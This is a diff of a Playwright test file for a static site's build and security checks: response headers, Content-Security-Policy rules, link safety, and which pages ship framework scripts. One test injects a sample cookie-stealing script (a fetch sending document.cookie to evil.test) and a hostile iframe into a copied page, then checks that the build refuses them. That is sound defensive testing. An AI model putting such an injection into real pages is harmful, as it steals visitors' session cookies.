@@ -4,9 +4,12 @@ import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync }
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect, test } from '@playwright/test';
+import { withoutFramework } from '../scripts/html-first';
+import { headerRules } from '../scripts/serve';
 import { pageTypes } from './content';
 
-const vercelHeaders: { key: string; value: string }[] = JSON.parse(readFileSync('vercel.json', 'utf8')).headers[0].headers;
+/** The headers vercel.json gives a path, matched as Vercel matches them. */
+const headersFor = headerRules(JSON.parse(readFileSync('vercel.json', 'utf8')));
 
 /** Records CSP violations from the first script on, before the page's own code runs. */
 async function watchViolations(page: import('@playwright/test').Page) {
@@ -26,7 +29,7 @@ for (const [name, path] of Object.entries(pageTypes)) {
     await watchViolations(page);
     const response = await page.goto(path, { waitUntil: 'networkidle' });
     const headers = response!.headers();
-    for (const { key, value } of vercelHeaders) expect(headers[key.toLowerCase()], key).toBe(value);
+    for (const [key, value] of Object.entries(headersFor(new URL(path, 'http://x').pathname))) expect(headers[key.toLowerCase()], key).toBe(value);
     if (path.startsWith('/search')) await expect(page.getByRole('status')).toContainText('results for');
     // A 404 answer is logged by Chromium as a console error; that one is the point of the page.
     const unexpected = errors.filter((text) => !(name === 'not found' && text.includes('404')));
@@ -48,23 +51,30 @@ test('an inline script the page did not ship is refused', async ({ page }) => {
   await expect.poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations.join(' '))).toContain('script-src');
 });
 
-test('the script-pinning step fails the build on a page holding a script or frame the site did not write, naming it', () => {
+test('the pages step fails the build on a page holding a script or frame the site did not write, naming it', () => {
   const dir = mkdtempSync(join(tmpdir(), 'pin-'));
   try {
     for (const page of ['index.html', 'about.html', 'search.html']) cpSync(join('out', page), join(dir, page));
-    const clean = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/pin-inline-scripts.ts', dir], { encoding: 'utf8' });
+    const clean = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/finish-pages.ts', dir], { encoding: 'utf8' });
     expect(clean.status, clean.stderr).toBe(0);
 
     const about = readFileSync(join(dir, 'about.html'), 'utf8');
     writeFileSync(join(dir, 'about.html'), about.replace('</main>', '<script>fetch("https://evil.test/?c="+document.cookie)</script><iframe src="https://evil.test"></iframe></main>'));
     const home = readFileSync(join(dir, 'index.html'), 'utf8');
-    const refused = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/pin-inline-scripts.ts', dir], { encoding: 'utf8' });
+    const refused = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/finish-pages.ts', dir], { encoding: 'utf8' });
     expect(refused.status).toBe(1);
     expect(refused.stderr).toContain(`${join(dir, 'about.html')}: an inline script the site did not write: "fetch(\\"https://evil.test/?c=\\"+document.cookie)"`);
     expect(refused.stderr).toContain(`${join(dir, 'about.html')}: <iframe> loading "https://evil.test"`);
     expect(refused.stderr).not.toContain('index.html');
     // Nothing is pinned when anything is refused.
     expect(readFileSync(join(dir, 'index.html'), 'utf8')).toBe(home);
+
+    // The search page without its framework scripts is refused too: it needs React.
+    writeFileSync(join(dir, 'about.html'), about);
+    writeFileSync(join(dir, 'search.html'), withoutFramework(readFileSync(join(dir, 'search.html'), 'utf8')));
+    const lost = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/finish-pages.ts', dir], { encoding: 'utf8' });
+    expect(lost.status).toBe(1);
+    expect(lost.stderr).toContain(`${join(dir, 'search.html')}: needs React in the browser (INTERACTIVE_PATHS) but carries no framework script`);
   } finally {
     rmSync(dir, { recursive: true, force: true });
   }
@@ -87,4 +97,27 @@ test('no page of out/ opens a link in a new tab without rel="noopener noreferrer
       .map((tag) => `${page}: ${tag}`),
   );
   expect(unsafe).toEqual([]);
+});
+
+test('static pages ship no framework JavaScript and no inline script; only the search page runs React', () => {
+  const scriptsOf = (file: string) => [...readFileSync(file, 'utf8').matchAll(/<script\b([^>]*)>/g)].map(([, attributes]) => attributes.trim());
+  for (const [name, path] of Object.entries(pageTypes)) {
+    if (name === 'search' || name === 'not found') continue;
+    const file = `out${path === '/' ? '/index' : path}.html`;
+    expect(scriptsOf(file).filter((attributes) => !/^src="\/site\.js\?v=\w+"$/.test(attributes) && attributes !== 'type="application/ld+json"'), file).toEqual([]);
+  }
+  expect(scriptsOf('out/404.html').filter((attributes) => !attributes.startsWith('src="/site.js')), '404').toEqual([]);
+  expect(scriptsOf('out/search.html').some((attributes) => attributes.startsWith('src="/_next/static/')), 'search').toBe(true);
+  const payloads = readdirSync('out', { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile() && entry.name.endsWith('.txt'));
+  expect(payloads.map((entry) => entry.name)).toEqual(['robots.txt']);
+});
+
+test('a static page allows no inline script; the search page allows only its own, pinned', async ({ request }) => {
+  const policy = async (path: string) => (await request.get(path)).headers()['content-security-policy'];
+  for (const path of ['/', '/about', pageTypes.tag, '/no-such-page']) {
+    expect(await policy(path), path).toContain("script-src 'self';");
+  }
+  expect(await policy('/search')).toContain("script-src 'self' 'unsafe-inline' 'wasm-unsafe-eval';");
+  // The page's own meta policy narrows 'unsafe-inline' to the hashes of its scripts.
+  expect(readFileSync('out/search.html', 'utf8')).toMatch(/<meta http-equiv="Content-Security-Policy" content="script-src 'self' 'wasm-unsafe-eval'( 'sha256-[^']+')+"\/>/);
 });
